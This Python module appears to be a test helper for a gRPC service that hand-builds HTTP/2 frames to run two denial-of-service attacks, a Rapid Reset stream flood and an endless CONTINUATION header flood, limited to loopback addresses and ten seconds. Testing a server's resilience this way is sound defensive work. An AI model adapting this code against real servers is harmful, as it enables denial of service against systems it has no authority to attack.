"""HTTP/2 as no honest client speaks it, frame by frame: streams that are reset as soon as they begin, and headers
without an end. To loopback addresses alone, and bounded in time."""

import ipaddress
import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
END_HEADERS, ACK = 4, 1
CANCEL = 8
MAX_SECONDS = 10
MAX_FRAME = 16384


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header field without indexing, in HPACK: `name` is an index of the static table, or a text."""
    def text(data):
        assert len(data) < 127
        return bytes([len(data)]) + data
    return (bytes([name]) if isinstance(name, int) else b"\x00" + text(name)) + text(value)


def call_headers(path):
    """Of a gRPC call: POST, http, path, authority, content type, te."""
    return b"\x83\x86" + literal(4, path) + literal(1, b"cadre") + literal(b"content-type", b"application/grpc") + \
        literal(b"te", b"trailers")


class Attacker:
    """One connection, from a loopback address of its own."""

    def __init__(self, port, source="127.0.0.2"):
        assert ipaddress.ip_address(source).is_loopback
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=2, source_address=(source, 0))
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))

    def close(self):
        self.socket.close()

    def send(self, data):
        """False once the other side has cut the connection, or takes nothing any more."""
        try:
            self.socket.sendall(data)
            return True
        except OSError:
            return False

    def answers(self, timeout=2):
        """Whether anything but the end of the connection comes back."""
        self.socket.settimeout(timeout)
        try:
            return bool(self.socket.recv(65536))
        except OSError:
            return False


def rapid_reset(port, seconds, path=b"/cadre.v1.GenerationService/Generate"):
    """Calls that are taken back at once, with a new connection whenever one is cut; how many were sent."""
    end = time.monotonic() + min(seconds, MAX_SECONDS)
    block, sent = call_headers(path), 0
    while time.monotonic() < end:
        try:
            attacker = Attacker(port)
        except OSError:
            time.sleep(0.02)
            continue
        stream = 1
        while time.monotonic() < end:
            frames = b"".join(
                frame(HEADERS, END_HEADERS, number, block) + frame(RST_STREAM, 0, number, struct.pack(">I", CANCEL))
                for number in range(stream, stream + 40, 2))
            stream += 40
            if not attacker.send(frames):
                break
            sent += 20
        attacker.close()
    return sent


def endless_headers(port, seconds):
    """CONTINUATION frames of one block of headers for ever; the bytes that were taken before the connection was cut, or
    None if it was not."""
    attacker = Attacker(port)
    end = time.monotonic() + min(seconds, MAX_SECONDS)
    attacker.send(frame(HEADERS, 0, 1, call_headers(b"/cadre.v1.GenerationService/Generate")))
    field = literal(b"x-" + b"a" * 60, b"b" * 100)
    part = field * (MAX_FRAME // len(field))
    taken = 0
    while time.monotonic() < end:
        if not attacker.send(frame(CONTINUATION, 0, 1, part)):
            attacker.close()
            return taken
        taken += len(part)
    attacker.close()
    return None
